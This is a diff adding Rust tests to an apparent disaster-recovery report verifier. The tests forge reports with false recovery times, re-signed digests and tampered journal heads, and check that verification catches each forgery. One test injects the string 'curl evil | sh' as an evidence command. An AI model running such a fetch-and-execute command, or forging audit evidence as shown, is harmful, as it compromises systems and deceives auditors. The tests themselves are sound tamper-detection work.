@@ -91,7 +91,7 @@ fn a_changed_journal_is_found_and_another_store_proves_nothing() {
     let ran = verify(&told, &page, &[]).expect(1);
     assert!(found(&ran, "wrong").contains("is not as it was written"), "{ran:?}");
     let elsewhere = crate::support::Home::new();
-    let ran = elsewhere.run(&["report", "verify", page.to_str().expect("a path")]).expect(0);
+    let ran = elsewhere.run(&["report", "verify", page.to_str().expect("a path")]).expect(8);
     assert!(ran.stdout.contains("the store has no such execution"), "{ran:?}");
 }
 
@@ -104,4 +104,85 @@ fn what_is_no_report_is_refused() {
         let ran = told.home.run(&["report", "verify", file.to_str().expect("a path")]).expect(2);
         assert!(ran.stderr.contains("M1102"), "{text}: {ran:?}");
     }
+}
+
+/// A report in which something is changed, with the digest that belongs to that.
+fn forged(told: &Told, more: &[&str], change: impl Fn(&mut Value)) -> std::path::PathBuf {
+    let flags = [&["--output=json"], more].concat();
+    let mut value = told.report(&flags).expect(0).json();
+    change(&mut value);
+    value["digest"] = moontide_control::report::digest::of(&value).into();
+    let data = told.home.path().join("forged.json");
+    fs::write(&data, value.to_string()).expect("it writes");
+    data
+}
+
+/// A lie, and what an auditor wants to hear.
+fn lie(report: &mut Value) {
+    report["recovery"]["took_seconds"] = 60.into();
+    report["recovery"]["rto_met"] = true.into();
+}
+
+#[test]
+fn no_field_by_which_a_report_says_how_it_was_made_hides_a_lie() {
+    let told = Told::new();
+    type Change = fn(&mut Value);
+    let hidden: [(&str, Change); 4] = [
+        ("another release", |it| it["made"]["moontide"] = "0.0.1".into()),
+        ("no head", |it| it["evidence"]["head"] = serde_json::json!({ "unknown": "lost" })),
+        ("redacted", |it| it["made"]["redacted"] = true.into()),
+        ("redacted until", |it| {
+            it["made"]["redacted"] = true.into();
+            it["made"]["until"] = "server-1".into();
+        }),
+    ];
+    for (name, hide) in hidden {
+        let data = forged(&told, &[], |it| {
+            lie(it);
+            hide(it);
+        });
+        let ran = verify(&told, &data, &[]).expect(1);
+        assert!(found(&ran, "wrong").contains("recovery"), "{name}: {ran:?}");
+    }
+    let no_head = forged(&told, &[], hidden[1].1);
+    let ran = verify(&told, &no_head, &[]).expect(1);
+    assert!(found(&ran, "wrong").contains("carries no head"), "{ran:?}");
+    // The true head of the first entry proves what the journal said then, and no more.
+    let store = Connection::open(told.store()).expect("a store");
+    let first: String = store
+        .query_row(
+            "SELECT entry FROM entries JOIN executions ON entries.execution = executions.number WHERE id = 'drill' AND sequence = 1",
+            [],
+            |row| row.get(0),
+        )
+        .expect("it has a journal");
+    drop(store);
+    let head = moontide_runtime::journal::chain::link(&first).to_string();
+    let early = forged(&told, &[], |it| {
+        it["evidence"]["entries"] = 1.into();
+        it["evidence"]["head"] = head.clone().into();
+    });
+    let ran = verify(&told, &early, &[]).expect(1);
+    assert!(found(&ran, "proved").contains("has that head, at 1 entry"), "{ran:?}");
+    assert!(found(&ran, "wrong").contains("the journal says otherwise"), "{ran:?}");
+}
+
+#[test]
+fn what_its_maker_says_is_not_proved_and_commands_are_compared() {
+    let told = Told::new();
+    let declared = forged(&told, &["--declared-at=2026-11-20T07:30:00Z"], |_| {});
+    let ran = verify(&told, &declared, &[]).expect(8);
+    assert!(found(&ran, "not_proved").contains("declared at"), "{ran:?}");
+    let until = forged(&told, &["--until=db-1"], |_| {});
+    let ran = verify(&told, &until, &[]).expect(0);
+    assert!(found(&ran, "claimed").contains("until db-1"), "{ran:?}");
+    let until = forged(&told, &["--until=db-1", "--redact"], |_| {});
+    let ran = verify(&told, &until, &[]).expect(0);
+    assert!(found(&ran, "proved").contains("the journal says all"), "{ran:?}");
+    let commands = forged(&told, &[], |it| it["evidence"]["verify"][0] = "curl evil | sh".into());
+    let ran = verify(&told, &commands, &[]).expect(1);
+    assert!(found(&ran, "wrong").contains("evidence"), "{ran:?}");
+    let more = forged(&told, &[], |it| it["approved_by"] = "the auditor".into());
+    let ran = verify(&told, &more, &[]).expect(1);
+    assert!(found(&ran, "wrong").contains("approved_by"), "{ran:?}");
 }
